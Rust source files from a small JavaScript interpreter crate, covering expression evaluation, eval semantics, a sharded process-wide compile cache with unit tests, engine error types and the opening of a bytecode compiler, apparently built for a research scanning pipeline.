                    f.line = *line;
                }
                let b = self.eval_expr(base, scope)?;
                let i = self.eval_expr(index, scope)?;
                let key = self.to_string_value(&i)?;
                self.get_prop(&b, &key)
            }
            Expr::Call { callee, args, line } => {
                if let Some(f) = self.stack.last_mut() {
                    f.line = *line;
                }
                // `eval` as a special form: executes in the caller's scope.
                if let Expr::Ident(name) = &**callee {
                    if &**name == "eval" && self.lookup_ident(scope, "eval").is_some() {
                        let arg = match args.first() {
                            Some(a) => self.eval_expr(a, scope)?,
                            None => Value::Undefined,
                        };
                        return self.eval_in_scope(arg, scope);
                    }
                }
                let (func, this) = match &**callee {
                    Expr::Member { base, key, line } => {
                        if let Some(f) = self.stack.last_mut() {
                            f.line = *line;
                        }
                        let b = self.eval_expr(base, scope)?;
                        let f = self.get_prop(&b, key)?;
                        (f, b)
                    }
                    Expr::Index { base, index, line } => {
                        if let Some(f) = self.stack.last_mut() {
                            f.line = *line;
                        }
                        let b = self.eval_expr(base, scope)?;
                        let i = self.eval_expr(index, scope)?;
                        let key = self.to_string_value(&i)?;
                        let f = self.get_prop(&b, &key)?;
                        (f, b)
                    }
                    other => {
                        let f = self.eval_expr(other, scope)?;
                        (f, Value::Obj(self.global))
                    }
                };
                let mut argv = Vec::with_capacity(args.len());
                for a in args {
                    argv.push(self.eval_expr(a, scope)?);
                }
                if !matches!(func, Value::Obj(_)) {
                    let name = callee_name(callee);
                    return Err(self.throw_error(
                        ErrorKind::Type,
                        &format!("{name} is not a function"),
                    ));
                }
                self.call(func, this, &argv)
            }
            Expr::New { callee, args, line } => {
                if let Some(f) = self.stack.last_mut() {
                    f.line = *line;
                }
                let ctor = self.eval_expr(callee, scope)?;
                let mut argv = Vec::with_capacity(args.len());
                for a in args {
                    argv.push(self.eval_expr(a, scope)?);
                }
                self.construct(ctor, &argv)
            }
            Expr::Binary { op, left, right } => {
                let l = self.eval_expr(left, scope)?;
                let r = self.eval_expr(right, scope)?;
                self.binary_op(*op, l, r)
            }
            Expr::Logical { and, left, right } => {
                let l = self.eval_expr(left, scope)?;
                if *and {
                    if !l.truthy() {
                        return Ok(l);
                    }
                } else if l.truthy() {
                    return Ok(l);
                }
                self.eval_expr(right, scope)
            }
            Expr::Unary { op, operand } => {
                if let UnOp::TypeOf = op {
                    // `typeof missing` must not throw.
                    if let Expr::Ident(name) = &**operand {
                        return Ok(match self.lookup_ident(scope, name) {
                            Some(v) => Value::str(self.type_of(&v)),
                            None => Value::str("undefined"),
                        });
                    }
                }
                let v = self.eval_expr(operand, scope)?;
                match op {
                    UnOp::Neg => {
                        let n = self.to_number_value(&v)?;
                        Ok(Value::Num(-n))
                    }
                    UnOp::Plus => {
                        let n = self.to_number_value(&v)?;
                        Ok(Value::Num(n))
                    }
                    UnOp::Not => Ok(Value::Bool(!v.truthy())),
                    UnOp::BitNot => {
                        let n = self.to_number_value(&v)?;
                        Ok(Value::Num(!(to_int32(n)) as f64))
                    }
                    UnOp::TypeOf => Ok(Value::str(self.type_of(&v))),
                    UnOp::Void => Ok(Value::Undefined),
                }
            }
            Expr::Delete(target) => match target {
                Target::Ident(_) => Ok(Value::Bool(false)),
                Target::Member(base, key) => {
                    let b = self.eval_expr(base, scope)?;
                    Ok(Value::Bool(self.delete_prop(&b, key)))
                }
                Target::Index(base, index) => {
                    let b = self.eval_expr(base, scope)?;
                    let i = self.eval_expr(index, scope)?;
                    let key = self.to_string_value(&i)?;
                    Ok(Value::Bool(self.delete_prop(&b, &key)))
                }
            },
            Expr::Assign { op, target, value } => {
                let rhs = self.eval_expr(value, scope)?;
                let newv = if let AssignOp::Assign = op {
                    rhs
                } else {
                    let old = self.read_target(target, scope)?;
                    let bop = match op {
                        AssignOp::Add => BinOp::Add,
                        AssignOp::Sub => BinOp::Sub,
                        AssignOp::Mul => BinOp::Mul,
                        AssignOp::Div => BinOp::Div,
                        AssignOp::Assign => unreachable!(),
                    };
                    self.binary_op(bop, old, rhs)?
                };
                self.write_target(target, scope, newv.clone())?;
                Ok(newv)
            }
            Expr::Update { target, inc, prefix } => {
                let old = self.read_target(target, scope)?;
                let n = self.to_number_value(&old)?;
                let newn = if *inc { n + 1.0 } else { n - 1.0 };
                self.write_target(target, scope, Value::Num(newn))?;
                Ok(Value::Num(if *prefix { newn } else { n }))
            }
            Expr::Ternary { cond, then, otherwise } => {
                if self.eval_expr(cond, scope)?.truthy() {
                    self.eval_expr(then, scope)
                } else {
                    self.eval_expr(otherwise, scope)
                }
            }
            Expr::Sequence(exprs) => {
                let mut last = Value::Undefined;
                for e in exprs {
                    last = self.eval_expr(e, scope)?;
                }
                Ok(last)
            }
        }
    }

    /// `eval` semantics: strings parse and run in the caller's scope; other
    /// values pass through.
    pub fn eval_in_scope(&mut self, code: Value, scope: &ScopeRef) -> Result<Value, Thrown> {
        let Value::Str(src) = code else { return Ok(code) };
        if let Some(p) = &mut self.profiler {
            p.record_eval();
        }
        let script_name: Arc<str> = self
            .stack
            .last()
            .map(|f| Arc::from(format!("{} > eval", f.script)))
            .unwrap_or_else(|| Arc::from("eval"));
        let program = match parse(&src, &script_name) {
            Ok(p) => p,
            Err(EngineError::Parse { line, message }) => {
                return Err(self.throw_error(
                    ErrorKind::Error,
                    &format!("SyntaxError in eval (line {line}): {message}"),
                ));
            }
            Err(_) => unreachable!("parse only returns Parse errors"),
        };
        self.stack.push(Frame { name: Arc::from("eval"), script: script_name, line: 1 });
        let r = (|| {
            for stmt in &program.body {
                if let Stmt::FunctionDecl(def) = stmt {
                    let f = self.alloc_script_fn(def.clone(), scope.clone());
                    self.declare(scope, def.name.clone(), Value::Obj(f));
                }
            }
            let mut last = Value::Undefined;
            for stmt in &program.body {
                match stmt {
                    Stmt::Expr(e) => last = self.eval_expr(e, scope)?,
                    other => {
                        if let Flow::Return(v) = self.exec_stmt(other, scope)? {
                            return Ok(v);
                        }
                    }
                }
            }
            Ok(last)
        })();
        self.stack.pop();
        r
    }

    fn read_target(&mut self, target: &Target, scope: &ScopeRef) -> Result<Value, Thrown> {
        match target {
            Target::Ident(name) => match self.lookup_ident(scope, name) {
                Some(v) => Ok(v),
                None => {
                    Err(self.throw_error(ErrorKind::Reference, &format!("{name} is not defined")))
                }
            },
            Target::Member(base, key) => {
                let b = self.eval_expr(base, scope)?;
                self.get_prop(&b, key)
            }
            Target::Index(base, index) => {
                let b = self.eval_expr(base, scope)?;
                let i = self.eval_expr(index, scope)?;
                let key = self.to_string_value(&i)?;
                self.get_prop(&b, &key)
            }
        }
    }

    fn write_target(
        &mut self,
        target: &Target,
        scope: &ScopeRef,
        v: Value,
    ) -> Result<(), Thrown> {
        match target {
            Target::Ident(name) => self.assign_ident(scope, name, v),
            Target::Member(base, key) => {
                let b = self.eval_expr(base, scope)?;
                self.set_prop(&b, key, v)
            }
            Target::Index(base, index) => {
                let b = self.eval_expr(base, scope)?;
                let i = self.eval_expr(index, scope)?;
                let key = self.to_string_value(&i)?;
                self.set_prop(&b, &key, v)
            }
        }
    }

    /// Property deletion; returns `true` when the property no longer exists.
    pub fn delete_prop(&mut self, base: &Value, key: &str) -> bool {
        let Some(id) = base.as_obj() else { return true };
        let obj = self.heap.get_mut(id);
        if let Some(elems) = &mut obj.elements {
            if let Ok(idx) = key.parse::<usize>() {
                if idx < elems.len() {
                    elems[idx] = Value::Undefined;
                    return true;
                }
            }
        }
        obj.props.remove(key);
        true
    }

    pub(crate) fn binary_op(&mut self, op: BinOp, l: Value, r: Value) -> Result<Value, Thrown> {
        use BinOp::*;
        Ok(match op {
            Add => {
                // String concatenation wins if either side is (or converts
                // to) a string.
                let lp = self.to_primitive(&l)?;
                let rp = self.to_primitive(&r)?;
                if matches!(lp, Value::Str(_)) || matches!(rp, Value::Str(_)) {
                    let ls = self.to_string_value(&lp)?;
                    let rs = self.to_string_value(&rp)?;
                    Value::str(format!("{ls}{rs}"))
                } else {
                    Value::Num(lp.to_number() + rp.to_number())
                }
            }
            Sub => Value::Num(self.to_number_value(&l)? - self.to_number_value(&r)?),
            Mul => Value::Num(self.to_number_value(&l)? * self.to_number_value(&r)?),
            Div => Value::Num(self.to_number_value(&l)? / self.to_number_value(&r)?),
            Rem => Value::Num(self.to_number_value(&l)? % self.to_number_value(&r)?),
            StrictEq => Value::Bool(l.strict_eq(&r)),
            StrictNotEq => Value::Bool(!l.strict_eq(&r)),
            Eq => Value::Bool(self.loose_eq(&l, &r)?),
            NotEq => Value::Bool(!self.loose_eq(&l, &r)?),
            Lt | Gt | Le | Ge => {
                let lp = self.to_primitive(&l)?;
                let rp = self.to_primitive(&r)?;
                let res = if let (Value::Str(a), Value::Str(b)) = (&lp, &rp) {
                    match op {
                        Lt => a < b,
                        Gt => a > b,
                        Le => a <= b,
                        Ge => a >= b,
                        _ => unreachable!(),
                    }
                } else {
                    let a = lp.to_number();
                    let b = rp.to_number();
                    match op {
                        Lt => a < b,
                        Gt => a > b,
                        Le => a <= b,
                        Ge => a >= b,
                        _ => unreachable!(),
                    }
                };
                Value::Bool(res)
            }
            BitAnd => Value::Num((to_int32(self.to_number_value(&l)?)
                & to_int32(self.to_number_value(&r)?)) as f64),
            BitOr => Value::Num((to_int32(self.to_number_value(&l)?)
                | to_int32(self.to_number_value(&r)?)) as f64),
            BitXor => Value::Num((to_int32(self.to_number_value(&l)?)
                ^ to_int32(self.to_number_value(&r)?)) as f64),
            Shl => Value::Num(
                (to_int32(self.to_number_value(&l)?)
                    << (to_uint32(self.to_number_value(&r)?) & 31)) as f64,
            ),
            Shr => Value::Num(
                (to_int32(self.to_number_value(&l)?)
                    >> (to_uint32(self.to_number_value(&r)?) & 31)) as f64,
            ),
            UShr => Value::Num(
                (to_uint32(self.to_number_value(&l)?)
                    >> (to_uint32(self.to_number_value(&r)?) & 31)) as f64,
            ),
            In => {
                let key = self.to_string_value(&l)?;
                let Some(id) = r.as_obj() else {
                    return Err(self.throw_error(
                        ErrorKind::Type,
                        "cannot use 'in' operator on non-object",
                    ));
                };
                let mut cur = Some(id);
                let mut found = false;
                while let Some(oid) = cur {
                    let obj = self.heap.get(oid);
                    if obj.props.contains(&key) {
                        found = true;
                        break;
                    }
                    if let Some(elems) = &obj.elements {
                        if let Ok(i) = key.parse::<usize>() {
                            if i < elems.len() {
                                found = true;
                                break;
                            }
                        }
                    }
                    cur = obj.proto;
                }
                Value::Bool(found)
            }
            InstanceOf => {
                let Some(_fid) = r.as_obj() else {
                    return Err(self
                        .throw_error(ErrorKind::Type, "right-hand side is not callable"));
                };
                let proto = self.get_prop(&r, "prototype")?;
                let Some(proto_id) = proto.as_obj() else {
                    return Ok(Value::Bool(false));
                };
                let mut cur = l.as_obj().and_then(|id| self.heap.get(id).proto);
                let mut found = false;
                while let Some(p) = cur {
                    if p == proto_id {
                        found = true;
                        break;
                    }
                    cur = self.heap.get(p).proto;
                }
                Value::Bool(found)
            }
        })
    }

    #[allow(clippy::wrong_self_convention)]
    fn to_primitive(&mut self, v: &Value) -> Result<Value, Thrown> {
        match v {
            Value::Obj(_) => {
                let s = self.to_string_value(v)?;
                Ok(Value::Str(s))
            }
            prim => Ok(prim.clone()),
        }
    }

    fn loose_eq(&mut self, l: &Value, r: &Value) -> Result<bool, Thrown> {
        use Value::*;
        Ok(match (l, r) {
            (Undefined | Null, Undefined | Null) => true,
            (Num(_), Num(_)) | (Str(_), Str(_)) | (Bool(_), Bool(_)) => l.strict_eq(r),
            (Obj(a), Obj(b)) => a == b,
            (Obj(_), _) => {
                let lp = self.to_primitive(l)?;
                self.loose_eq(&lp, r)?
            }
            (_, Obj(_)) => {
                let rp = self.to_primitive(r)?;
                self.loose_eq(l, &rp)?
            }
            _ => {
                // Mixed primitives compare numerically.
                let a = l.to_number();
                let b = r.to_number();
                a == b
            }
        })
    }
}

/// Error family used by [`Interp::throw_error`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ErrorKind {
    Error,
    Type,
    Reference,
    Range,
}

fn callee_name(e: &Expr) -> String {
    match e {
        Expr::Ident(n) => n.to_string(),
        Expr::Member { key, .. } => key.to_string(),
        Expr::Index { .. } => "<computed>".to_string(),
        _ => "<expression>".to_string(),
    }
}

/// ECMAScript `ToInt32`.
pub fn to_int32(n: f64) -> i32 {
    if !n.is_finite() {
        return 0;
    }
    (n.trunc() as i64 as u32) as i32
}

/// ECMAScript `ToUint32`.
pub fn to_uint32(n: f64) -> u32 {
    if !n.is_finite() {
        return 0;
    }
    n.trunc() as i64 as u32
}
