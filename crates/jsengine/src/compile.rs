//! Shared script compilation: [`CompiledScript`] handles and the
//! process-wide, content-hash-keyed [`CompileCache`].
//!
//! The scan hot path used to re-lex and re-parse every script body on every
//! visit and every retry, even though the corpus collapses to far fewer
//! unique bodies than delivered scripts (the paper's Sec. 4.2 statistic —
//! 1,535,306 collected scripts dedupe heavily; `ScanReport::script_stats`
//! models it). Since the [`Program`](crate::ast::Program) AST became
//! `Arc`-based it is immutable and `Send + Sync`, so one parse can serve
//! every worker thread for the rest of the process.
//!
//! Keys are `(FNV-64(body), FNV-64(script name))`: the script name is baked
//! into [`FunctionDef::script`](crate::ast::FunctionDef) at parse time and
//! surfaces in `Error.stack` frames, which the detection pipeline reads for
//! originating-script attribution — sharing one `Program` across two URLs
//! with identical bodies would corrupt those stacks. Third-party provider
//! scripts keep both body *and* URL across hundreds of sites, so the
//! dedupe the cache exists for still happens.
//!
//! The cache is mutex-striped ([`CompileCache::with_shards`]) so concurrent
//! scan workers rarely contend, and eviction-free: growth is bounded by the
//! number of unique `(body, name)` pairs in the workload, which the
//! population generator keeps small. Telemetry lands on the
//! `cache.compile.{hit,miss,bytes}` counters; those are *excluded* from the
//! snapshot digest (see `obs::metrics`), because the digest must be
//! byte-identical with the cache on and off.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

use crate::ast::Program;
use crate::error::EngineError;
use crate::parser::parse;

/// FNV-1a over bytes — the same content-identity hash the scan's corpus
/// statistics use.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

/// An opaque, shared compiled-script handle: the parse artifact, the
/// identity it was compiled under, and a lazily-populated bytecode slot.
///
/// Handles are passed around as `Arc<CompiledScript>` (the cache hands out
/// one `Arc` per unique `(body, name)`), so the once-compiled
/// [`ScriptChunk`](crate::bytecode::ScriptChunk) in [`chunk`] is shared by
/// every worker in the process exactly like the AST is.
#[derive(Debug)]
pub struct CompiledScript {
    name: Arc<str>,
    body_hash: u64,
    source_len: usize,
    program: Arc<Program>,
    /// Bytecode, compiled on first use by a VM-backend realm (tree-walker
    /// runs never pay for it).
    chunk: OnceLock<Arc<crate::bytecode::ScriptChunk>>,
}

impl CompiledScript {
    /// The script name (URL) the source was parsed under.
    pub fn name(&self) -> &Arc<str> {
        &self.name
    }

    /// FNV-64 of the source body.
    pub fn body_hash(&self) -> u64 {
        self.body_hash
    }

    /// Length of the source body in bytes.
    pub fn source_len(&self) -> usize {
        self.source_len
    }

    /// The shared parsed program (the tree-walker's execution artifact).
    pub fn ast(&self) -> &Arc<Program> {
        &self.program
    }

    /// The shared parsed program.
    #[deprecated(note = "use `ast()` (or `chunk()` for the VM backend) on the opaque handle")]
    pub fn program(&self) -> &Arc<Program> {
        &self.program
    }

    /// The script's bytecode, compiled exactly once per handle no matter
    /// how many realms race here (`OnceLock`); losers of the race drop
    /// their work and share the winner's chunk.
    pub fn chunk(&self) -> &Arc<crate::bytecode::ScriptChunk> {
        self.chunk.get_or_init(|| {
            let _ph = obs::prof::enter(&obs::prof::JS_COMPILE_BC);
            Arc::new(crate::bytecode::compile_program(&self.program))
        })
    }
}

/// Compile a script without consulting any cache.
pub fn compile(src: &str, name: &str) -> Result<Arc<CompiledScript>, EngineError> {
    let program = Arc::new(parse(src, name)?);
    Ok(Arc::new(CompiledScript {
        name: Arc::from(name),
        body_hash: fnv1a(src.as_bytes()),
        source_len: src.len(),
        program,
        chunk: OnceLock::new(),
    }))
}

/// Point-in-time cache accounting (also mirrored onto the
/// `cache.compile.*` obs counters).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct CacheStats {
    pub hits: u64,
    pub misses: u64,
    /// Source bytes compiled and retained (misses only).
    pub bytes: u64,
    pub entries: usize,
}

type Shard = Mutex<HashMap<(u64, u64), Arc<CompiledScript>>>;

/// A sharded (mutex-striped) compilation cache mapping
/// `(FNV-64(body), FNV-64(name))` to the shared [`CompiledScript`] handle.
/// Storing the whole handle (not just the `Program`) means the lazily
/// compiled bytecode slot is shared across workers too: the second realm to
/// run a script under the VM backend finds the chunk already populated.
pub struct CompileCache {
    shards: Box<[Shard]>,
    hits: AtomicU64,
    misses: AtomicU64,
    bytes: AtomicU64,
}

impl CompileCache {
    /// Build a cache with `shards` mutex stripes (clamped to ≥ 1).
    pub fn with_shards(shards: usize) -> CompileCache {
        let n = shards.max(1);
        CompileCache {
            shards: (0..n).map(|_| Shard::default()).collect(),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            bytes: AtomicU64::new(0),
        }
    }

    fn shard(&self, key: (u64, u64)) -> &Shard {
        &self.shards[(key.0 as usize) % self.shards.len()]
    }

    /// Look up `(src, name)`; parse and insert on miss. Parsing happens
    /// outside the shard lock, so a pathological script cannot stall other
    /// workers; concurrent first compiles of the same body may both parse,
    /// but only one artifact is retained.
    pub fn get_or_compile(&self, src: &str, name: &str) -> Result<Arc<CompiledScript>, EngineError> {
        let key = (fnv1a(src.as_bytes()), fnv1a(name.as_bytes()));
        if let Some(cs) = self.shard(key).lock().unwrap().get(&key).cloned() {
            let _ph = obs::prof::enter(&obs::prof::COMPILE_HIT);
            self.hits.fetch_add(1, Ordering::Relaxed);
            obs::add("cache.compile.hit", 1);
            return Ok(cs);
        }
        let _ph = obs::prof::enter(&obs::prof::COMPILE_MISS);
        let parsed = Arc::new(CompiledScript {
            name: Arc::from(name),
            body_hash: key.0,
            source_len: src.len(),
            program: Arc::new(parse(src, name)?),
            chunk: OnceLock::new(),
        });
        let cs = {
            let mut guard = self.shard(key).lock().unwrap();
            guard.entry(key).or_insert_with(|| parsed.clone()).clone()
        };
        self.misses.fetch_add(1, Ordering::Relaxed);
        self.bytes.fetch_add(src.len() as u64, Ordering::Relaxed);
        obs::add("cache.compile.miss", 1);
        obs::add("cache.compile.bytes", src.len() as u64);
        Ok(cs)
    }

    /// Number of cached unique `(body, name)` artifacts.
    pub fn len(&self) -> usize {
        self.shards.iter().map(|s| s.lock().unwrap().len()).sum()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    pub fn stats(&self) -> CacheStats {
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            bytes: self.bytes.load(Ordering::Relaxed),
            entries: self.len(),
        }
    }

    /// Drop every artifact and zero the accounting (run boundaries in
    /// ablation harnesses).
    pub fn clear(&self) {
        for s in self.shards.iter() {
            s.lock().unwrap().clear();
        }
        self.hits.store(0, Ordering::Relaxed);
        self.misses.store(0, Ordering::Relaxed);
        self.bytes.store(0, Ordering::Relaxed);
    }
}

static CACHE_ENABLED: AtomicBool = AtomicBool::new(true);
static CACHE_SHARDS: AtomicUsize = AtomicUsize::new(16);
static GLOBAL: OnceLock<CompileCache> = OnceLock::new();

/// The process-wide compile cache shared by every scan worker.
pub fn cache() -> &'static CompileCache {
    GLOBAL.get_or_init(|| CompileCache::with_shards(CACHE_SHARDS.load(Ordering::Relaxed)))
}

/// Enable or disable the global cache (the `--no-compile-cache` ablation
/// and the `GULLIBLE_COMPILE_CACHE` knob). Disabled means
/// [`compile_cached`] parses directly; results are identical either way.
pub fn set_cache_enabled(enabled: bool) {
    CACHE_ENABLED.store(enabled, Ordering::Relaxed);
}

pub fn cache_enabled() -> bool {
    CACHE_ENABLED.load(Ordering::Relaxed)
}

/// Set the global cache's shard count (`GULLIBLE_COMPILE_SHARDS`). Takes
/// effect only if called before the cache's first use.
pub fn set_cache_shards(shards: usize) {
    CACHE_SHARDS.store(shards.max(1), Ordering::Relaxed);
}

/// Compile through the global cache when enabled, directly otherwise.
pub fn compile_cached(src: &str, name: &str) -> Result<Arc<CompiledScript>, EngineError> {
    if cache_enabled() {
        cache().get_or_compile(src, name)
    } else {
        compile(src, name)
    }
}

/// A script ready for evaluation: raw source (compiled on the spot, no
/// caching) or a pre-compiled shared artifact. Host APIs take
/// `impl Into<ScriptSource>` so callers opt into the cache by handing over
/// a [`CompiledScript`] instead of text — no duplicate method pairs.
#[derive(Clone)]
pub enum ScriptSource {
    Raw { source: Arc<str>, name: Arc<str> },
    Compiled(Arc<CompiledScript>),
}

impl ScriptSource {
    /// The script name (URL) evaluation will run under.
    pub fn name(&self) -> &str {
        match self {
            ScriptSource::Raw { name, .. } => name,
            ScriptSource::Compiled(cs) => cs.name(),
        }
    }
}

impl<S: Into<Arc<str>>, N: Into<Arc<str>>> From<(S, N)> for ScriptSource {
    fn from((source, name): (S, N)) -> ScriptSource {
        ScriptSource::Raw { source: source.into(), name: name.into() }
    }
}

impl From<Arc<CompiledScript>> for ScriptSource {
    fn from(cs: Arc<CompiledScript>) -> ScriptSource {
        ScriptSource::Compiled(cs)
    }
}

impl From<&Arc<CompiledScript>> for ScriptSource {
    fn from(cs: &Arc<CompiledScript>) -> ScriptSource {
        ScriptSource::Compiled(Arc::clone(cs))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compiled_script_round_trips_through_eval() {
        let cs = compile("var x = 2; x + 40", "t.js").unwrap();
        assert_eq!(cs.name().as_ref(), "t.js");
        assert_eq!(cs.body_hash(), fnv1a(b"var x = 2; x + 40"));
        let mut it = crate::Interp::new();
        assert_eq!(it.eval_compiled(&cs).unwrap(), crate::Value::Num(42.0));
        // The artifact is reusable: a second realm executes the same parse.
        let mut it2 = crate::Interp::new();
        assert_eq!(it2.eval_compiled(&cs).unwrap(), crate::Value::Num(42.0));
    }

    #[test]
    fn cache_hits_share_one_handle() {
        let cache = CompileCache::with_shards(4);
        let a = cache.get_or_compile("1 + 1", "a.js").unwrap();
        let b = cache.get_or_compile("1 + 1", "a.js").unwrap();
        assert!(Arc::ptr_eq(&a, &b), "hits return the same opaque handle");
        assert!(Arc::ptr_eq(a.ast(), b.ast()));
        let s = cache.stats();
        assert_eq!((s.hits, s.misses, s.entries), (1, 1, 1));
        assert_eq!(s.bytes, 5);
    }

    #[test]
    fn distinct_names_do_not_share_artifacts() {
        // The script name is baked into stack frames; same body under a
        // different URL must be a distinct artifact.
        let cache = CompileCache::with_shards(4);
        let a = cache.get_or_compile("function f() { return 1; } f()", "a.js").unwrap();
        let b = cache.get_or_compile("function f() { return 1; } f()", "b.js").unwrap();
        assert!(!Arc::ptr_eq(a.ast(), b.ast()));
        assert_eq!(cache.len(), 2);
    }

    #[test]
    fn racing_realms_share_one_lazily_compiled_chunk() {
        // Two threads hitting the cold bytecode slot of one handle must end
        // up with the same chunk — the loser of the `OnceLock` race drops
        // its compile and adopts the winner's.
        let cs = compile("function f(n) { return n + 1; } f(1)", "race.js").unwrap();
        let barrier = std::sync::Barrier::new(2);
        let (a, b) = std::thread::scope(|s| {
            let ta = s.spawn(|| {
                barrier.wait();
                Arc::as_ptr(cs.chunk()) as usize
            });
            let tb = s.spawn(|| {
                barrier.wait();
                Arc::as_ptr(cs.chunk()) as usize
            });
            (ta.join().unwrap(), tb.join().unwrap())
        });
        assert_eq!(a, b, "both realms must observe the same compiled chunk");
        assert_eq!(a, Arc::as_ptr(cs.chunk()) as usize);
    }

    #[test]
    fn parse_errors_are_not_cached() {
        let cache = CompileCache::with_shards(1);
        assert!(cache.get_or_compile("var = ;", "bad.js").is_err());
        assert_eq!(cache.len(), 0);
        assert_eq!(cache.stats().misses, 0);
    }

    #[test]
    fn clear_resets_entries_and_accounting() {
        let cache = CompileCache::with_shards(2);
        cache.get_or_compile("1", "a").unwrap();
        cache.get_or_compile("1", "a").unwrap();
        cache.clear();
        assert!(cache.is_empty());
        assert_eq!(cache.stats(), CacheStats::default());
    }

    #[test]
    fn script_source_conversions() {
        let raw: ScriptSource = ("1 + 1", "r.js").into();
        assert_eq!(raw.name(), "r.js");
        let cs = compile("2 + 2", "c.js").unwrap();
        let by_ref: ScriptSource = (&cs).into();
        assert_eq!(by_ref.name(), "c.js");
        let owned: ScriptSource = cs.into();
        assert!(matches!(owned, ScriptSource::Compiled(_)));
    }

    #[test]
    fn shared_program_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Arc<Program>>();
        assert_send_sync::<CompiledScript>();
        assert_send_sync::<CompileCache>();
    }
}
