//! Engine error types.

use std::fmt;

use crate::value::Value;

/// A thrown JavaScript value (any value can be thrown), carried through the
/// Rust call stack as an `Err`. For `Error` objects the `.stack` property was
/// already captured at construction time, mirroring SpiderMonkey.
#[derive(Clone, Debug)]
pub struct Thrown {
    pub value: Value,
    /// Human-readable rendering, for host-side diagnostics.
    pub message: String,
}

impl Thrown {
    pub fn new(value: Value, message: impl Into<String>) -> Thrown {
        Thrown { value, message: message.into() }
    }
}

/// Top-level engine failure: either a parse error or an uncaught exception.
#[derive(Clone, Debug)]
pub enum EngineError {
    /// Syntax error with line number and description.
    Parse { line: u32, message: String },
    /// Exception propagated out of the top-level script.
    Uncaught(Thrown),
    /// Runaway script stopped by the step or recursion budget — the
    /// engine-level equivalent of a watchdog kill.
    Budget(&'static str),
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EngineError::Parse { line, message } => {
                write!(f, "SyntaxError (line {line}): {message}")
            }
            EngineError::Uncaught(t) => write!(f, "Uncaught: {}", t.message),
            EngineError::Budget(what) => write!(f, "script exceeded {what} budget"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<Thrown> for EngineError {
    fn from(t: Thrown) -> EngineError {
        EngineError::Uncaught(t)
    }
}
