//! The bytecode compiler: flat instruction encoding for MiniJS.
//!
//! [`compile_program`] lowers a parsed [`Program`] into a [`ScriptChunk`] —
//! one [`Chunk`] for the top-level statement list plus one per function
//! definition reachable from it — which [`crate::vm::run_chunk`] executes in
//! a stack dispatch loop. The compiler's contract is *observational
//! byte-identity with the tree-walker*: the same step charges in the same
//! order (so the step budget trips at the identical point), the same frame
//! line updates, the same heap allocation order, the same error messages,
//! the same profiler hook sequence. The tree-walking interpreter stays in
//! the crate as the reference oracle; `tests/engine_differential.rs` and the
//! `ablation_engine` bench bin hold the two engines to the same telemetry
//! digest.
//!
//! Step accounting is coalesced: the tree-walker charges one step per
//! statement and per expression node at evaluation entry, which a naive
//! translation would pay as one budget check per instruction. Instead the
//! compiler accumulates charges for *pure* nodes (literals, operators on
//! already-evaluated operands) in a pending counter and flushes them as a
//! single [`Insn::Step`] immediately before any instruction with observable
//! effects — a heap mutation, a scope write, a frame-line update, a jump, or
//! anything that can call back into user code. Because only effect-free
//! charges are deferred, the interpreter state seen by every effect (and by
//! a mid-run budget exhaustion) is exactly the tree-walker's.
//!
//! `try`/`catch`/`finally` does not occur in the generated corpus, so the
//! compiler does not lower it; a `Try` statement compiles to a
//! [`Insn::TreeStmt`] escape hatch that runs the subtree under the oracle
//! and re-enters the bytecode with the resulting control flow.

use std::sync::Arc;

use crate::ast::*;

/// One VM instruction. Operands are indices into the owning [`Chunk`]'s
/// pools; jump targets are absolute instruction offsets patched in by the
/// compiler's label pass.
#[derive(Clone, Debug, PartialEq)]
pub enum Insn {
    /// Charge `n` coalesced interpreter steps against the step budget.
    Step(u32),
    /// Update the innermost frame's line (member/index/call/new/throw sites).
    SetLine(u32),
    /// Push `consts[i]`.
    Const(u32),
    /// Duplicate the top of stack.
    Dup,
    /// Discard the top of stack.
    Pop,
    /// Swap the two top stack slots.
    Swap,
    /// Unconditional jump.
    Jump(u32),
    /// Pop; jump when falsy.
    JumpIfFalsy(u32),
    /// Peek; when falsy jump *keeping* the value, else pop it (`&&`).
    JumpFalsyKeep(u32),
    /// Peek; when truthy jump *keeping* the value, else pop it (`||`).
    JumpTruthyKeep(u32),
    /// Push the `this` binding of the current scope chain.
    LoadThis,
    /// Push the binding of `names[i]`; ReferenceError when unresolvable.
    LoadIdent(u32),
    /// Push `typeof` of the binding of `names[i]` (`"undefined"` when
    /// unresolvable — `typeof missing` must not throw).
    TypeOfIdent(u32),
    /// Pop a value and assign it to `names[i]` (scope chain, then global).
    StoreIdent(u32),
    /// Pop a value and declare `names[i]` in the current scope.
    Declare(u32),
    /// Allocate `fns[i]` as a function object and declare it in the current
    /// scope — block-entry hoisting, re-run on every entry like the oracle.
    Hoist(u32),
    /// Allocate `fns[i]` as a function object closing over the current
    /// scope and push it.
    MakeFunction(u32),
    /// Pop `n` values and push a freshly allocated array of them.
    MakeArray(u32),
    /// Push a freshly allocated plain object (before its property values
    /// are evaluated, matching the oracle's allocation order).
    AllocObject,
    /// Pop a value, peek an object, insert `names[i]` as an own data
    /// property (object-literal construction; not `set_prop`).
    SetOwnProp(u32),
    /// Pop a base, push `get_prop(base, names[i])`.
    GetProp(u32),
    /// Pop an index and a base, push `get_prop(base, to_string(index))`.
    GetIndex,
    /// Pop a base, then a value; `set_prop(base, names[i], value)`.
    SetProp(u32),
    /// Pop an index, a base, then a value; `set_prop` under the stringified
    /// index.
    SetIndex,
    /// Pop a base, push `delete base[names[i]]`.
    DeleteProp(u32),
    /// Pop an index and a base, push the deletion result.
    DeleteIndex,
    /// Pop two operands, push the binary result.
    BinOp(BinOp),
